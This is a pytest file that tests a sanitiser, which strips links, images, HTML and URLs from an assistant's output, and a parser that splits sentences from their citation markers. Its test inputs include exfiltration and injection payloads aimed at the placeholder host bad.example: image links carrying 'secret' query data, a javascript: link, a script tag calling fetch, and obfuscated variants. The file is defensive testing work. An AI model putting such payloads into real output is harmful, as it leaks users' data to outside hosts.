"""A model's text, made harmless."""

import pytest

from assistant.plain import plain_prose
from assistant.sentences_written import Written, sentences_written

DANGEROUS = (
    "![x](https://bad.example/p.png?q=1)",
    "![x][ref]\n\n[ref]: https://bad.example/p.png",
    "[see](https://bad.example/?d=secret)",
    "[see](javascript:alert(1))",
    "<img src=https://bad.example/x.gif>",
    "<img src='https://bad.example/x.gif'",
    "<script>fetch('//bad.example')</script>",
    "&lt;img src=https://bad.example/x.gif&gt;",
    "&amp;lt;img src=https://bad.example&amp;gt;",
    "https://bad.example/?q=secret",
    "HTTPS://BAD.example",
    "www.bad.example/path",
    "bad.example/path?q=1",
    "mailto:a@bad.example",
    "a@bad.example",
    "data:text/html;base64,AAAA",
    "ht\u200btps://bad.example/x",
    "![a](![b](https://bad.example/x))",
    "```\nhttps://bad.example\n```",
    "[a]: https://bad.example",
)


@pytest.mark.parametrize("text", DANGEROUS)
def test_plain_prose_leaves_nothing_to_load_or_follow(text: str) -> None:
    said = plain_prose(f"Before. {text} After.")
    assert "bad.example" not in said.casefold()
    assert "<" not in said
    assert "](" not in said


def test_plain_prose_keeps_words_markers_and_figures() -> None:
    text = "In 2013, 59,648 people died [1]. Art. 4(h) applies, e.g. in A/63/677 [2, 3]."
    assert plain_prose(text) == text


def test_plain_prose_takes_marks_of_ours_from_a_model() -> None:
    assert plain_prose("‹The Council says› yes") == "The Council says yes"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("It rained [1]. It stopped [2].", [("It rained.", (1,)), ("It stopped.", (2,))]),
        ("It rained. [1] It stopped. [2][3]", [("It rained.", (1,)), ("It stopped.", (2, 3))]),
        ("It rained 【4】.", [("It rained.", (4,))]),
        ("It rained [1, 2] and [2] stopped.", [("It rained and stopped.", (1, 2))]),
        ("- It rained [1].\n- It stopped.", [("It rained.", (1,)), ("It stopped.", ())]),
        ("According to evidence 3, it rained.", [("It rained.", ())]),
        ("The evidence states that it rained [1].", [("It rained.", (1,))]),
        ("[1] [2]", []),
        ("", []),
    ],
)
def test_sentences_written_reads_sentences_with_markers(
    raw: str, expected: list[tuple[str, tuple[int, ...]]]
) -> None:
    assert sentences_written(raw) == [Written(*e) for e in expected]
